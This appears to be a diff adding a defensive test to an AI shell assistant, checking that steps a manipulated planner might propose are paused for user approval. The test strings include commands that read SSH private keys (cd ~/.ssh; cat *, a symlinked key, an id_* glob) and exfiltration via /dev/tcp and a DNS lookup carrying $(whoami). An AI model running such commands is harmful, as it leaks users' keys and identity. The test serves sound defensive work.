@@ -225,3 +225,41 @@ def test_norris_autorun_stops_after_text_that_gives_instructions(sh, stub, confi
         assert listener.received == []
     finally:
         listener.close()
+
+
+def test_norris_autorun_hostile_reads_wait(sh, stub, config_file):
+    """Steps a steered planner could propose that look like readers: a `cd` that runs by
+    itself, then `cat *` in the directory the shell is now in (the key directory); a link in
+    the project that leads to the key; a pattern over hidden names; input from /dev/tcp (bash
+    opens the connection itself).  Each waits and says why; nothing reaches the listener."""
+    _autorun(stub, config_file)
+    work = sh.home / "work"
+    keys = sh.home / ".ssh"
+    keys.mkdir(exist_ok=True)
+    (keys / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n", encoding="utf-8")
+    (work / "notes").symlink_to(keys / "id_ed25519")
+    listener = Listener()
+    try:
+        stub.queue(Reply("CMD: cd ~/.ssh"), Reply("CMD: cat *"))
+        sh.ask("?? look around")
+        screen = sh.wait_prompt("cat *")  # `cd ~/.ssh` ran by itself; the shell now stands there
+        assert "Step 1 ran: `cd ~/.ssh`" in user_message(stub.requests[1])
+        assert "needs you: reads keys or credentials (*)" in screen
+        for step, why in (("cd ~/work && cat notes", "reads keys or credentials (notes)"),
+                          ("head -n 3 ~/*/id_*", "reads keys or credentials"),
+                          (f"cat < /dev/tcp/127.0.0.1/{listener.port}", "sends data to the network"),
+                          ("getent hosts $(whoami).example.com", "sends data to the network")):
+            stub.queue(Reply(f"CMD: {step}"))
+            sh.tmux.keys("C-u")
+            sh.ask("true")
+            screen = sh.wait_prompt(step)
+            assert f"needs you: {why}" in screen.split("$ true")[-1], (step, screen)
+        sh.tmux.keys("C-u")
+        sh.ask("? :halt")
+        sh.wait("halted after")
+        sh.wait_prompt("")
+        assert listener.received == []
+        assert "BEGIN OPENSSH" not in "".join(m.get("content") or "" for r in stub.requests
+                                              for m in r["body"]["messages"])
+    finally:
+        listener.close()
